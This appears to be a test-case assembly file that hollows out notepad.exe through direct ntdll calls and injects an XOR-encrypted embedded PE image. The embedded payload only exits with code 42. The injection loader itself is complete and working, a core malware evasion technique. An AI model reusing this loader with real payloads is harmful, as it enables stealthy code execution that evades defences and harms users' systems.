; SPDX-License-Identifier: Apache-2.0
; Hollowing of notepad.exe by system calls alone: its image is taken away, memory is put there that can be
; written, and made executable when the payload's image is in it.
%import kernel32.dll CreateProcessA, GetExitCodeProcess, ExitProcess
%import ntdll.dll NtQueryInformationProcess, NtReadVirtualMemory, ZwUnmapViewOfSection, NtAllocateVirtualMemory
%import ntdll.dll NtWriteVirtualMemory, NtProtectVirtualMemory, NtGetContextThread, NtSetContextThread
%import ntdll.dll NtResumeThread, NtWaitForSingleObject
%entry start
%payload image_code image_imports
%encrypt image image_end 0xc9

%section .text rx
start:
  push information
  push startup
  push 0
  push 0
  push 4                       ; CREATE_SUSPENDED
  push 0
  push 0
  push 0
  push path
  push 0
  call dword ptr [CreateProcessA]
  test eax, eax
  jz failed
  push 0
  push 24
  push basic
  push 0                       ; ProcessBasicInformation
  push dword ptr [information]
  call dword ptr [NtQueryInformationProcess]
  call check
  mov ebx, dword ptr [peb]
  add ebx, 8                   ; PEB.ImageBaseAddress
  push 0
  push 4
  push base
  push ebx
  push dword ptr [information]
  call dword ptr [NtReadVirtualMemory]
  call check
  push dword ptr [base]
  push dword ptr [information]
  call dword ptr [ZwUnmapViewOfSection]
  call check
  push 4                       ; PAGE_READWRITE
  push 0x3000
  push size
  push 0
  push wanted
  push dword ptr [information]
  call dword ptr [NtAllocateVirtualMemory]
  call check
  mov edi, 0x400000
  mov esi, image
  mov ebp, image_code
  call write
  mov edi, 0x401000
  mov ebp, image_end
  call write
  mov dword ptr [piece], 0x400000
  mov edi, ebx
  call poke
  push base
  push 0x20                    ; PAGE_EXECUTE_READ
  push size
  push wanted
  push dword ptr [information]
  call dword ptr [NtProtectVirtualMemory]
  call check
  push context
  push dword ptr [thread]
  call dword ptr [NtGetContextThread]
  call check
  mov dword ptr [context + 0xb0], 0x401000   ; EAX: where the first thread starts
  push context
  push dword ptr [thread]
  call dword ptr [NtSetContextThread]
  call check
  push 0
  push dword ptr [thread]
  call dword ptr [NtResumeThread]
  call check
  push 0
  push 0
  push dword ptr [information]
  call dword ptr [NtWaitForSingleObject]
  call check
  push base
  push dword ptr [information]
  call dword ptr [GetExitCodeProcess]
  cmp dword ptr [base], 42
  jne failed
  push 0
  call dword ptr [ExitProcess]
; Decrypts from ESI to EBP into the other process, at EDI.
write:
  mov eax, dword ptr [esi]
  xor eax, 0xc9c9c9c9
  mov dword ptr [piece], eax
  call poke
  add esi, 4
  add edi, 4
  cmp esi, ebp
  jb write
  ret
poke:
  push 0
  push 4
  push piece
  push edi
  push dword ptr [information]
  call dword ptr [NtWriteVirtualMemory]
; Goes on when the status in EAX is a success.
check:
  test eax, eax
  jnz failed
  ret
failed:
  push 1
  call dword ptr [ExitProcess]

%section .data rw
startup:                       ; STARTUPINFOA
  .long 68
  .zero 64
information:                   ; PROCESS_INFORMATION
  .long 0
thread:
  .long 0, 0, 0
basic:                         ; PROCESS_BASIC_INFORMATION
  .long 0
peb:
  .long 0, 0, 0, 0, 0
base:
  .long 0
wanted:
  .long 0x400000
size:
  .long 0x2000
piece:
  .long 0
context:                       ; CONTEXT, asked for as CONTEXT_INTEGER
  .long 0x10002
  .zero 712
path:
  .asciz "C:\\Windows\\System32\\notepad.exe"
  .p2align 2, 0
image:                         ; the payload's headers: one section, imports, base 0x400000
  .ascii "MZ"
  .zero 58
  .long 0x40
  .ascii "PE"
  .byte 0, 0
  .short 0x14c, 1
  .long 0, 0, 0
  .short 0xe0, 0x103, 0x10b, 0
  .long 0x1000, 0, 0, 0x1000, 0x1000, 0x1000, 0x400000, 0x1000, 0x200
  .short 6, 1, 0, 0, 6, 1
  .long 0, 0x2000, 0x200, 0
  .short 3, 0
  .long 0x100000, 0x1000, 0x100000, 0x1000, 0, 16
  .long 0, 0, image_imports - image_code + 0x1000, 40
  .zero 112
  .ascii ".text"
  .byte 0, 0, 0
  .long 0x1000, 0x1000, 0x1000, 0x200, 0, 0, 0, 0xe0000020
  .p2align 2, 0
image_code:                    ; its section, which lies at 0x401000
  push 42
  .byte 0xff, 0x15             ; call dword ptr [the import's slot]
  .long image_slots - image_code + 0x401000
  %marker
  .p2align 2, 0
image_imports:
  .long 0, 0, 0, image_dll - image_code + 0x1000, image_slots - image_code + 0x1000
  .long 0, 0, 0, 0, 0
image_slots:
  .long image_name - image_code + 0x1000, 0
image_name:
  .byte 0, 0
  .asciz "ExitProcess"
image_dll:
  .asciz "kernel32.dll"
  .p2align 2, 0
image_end:
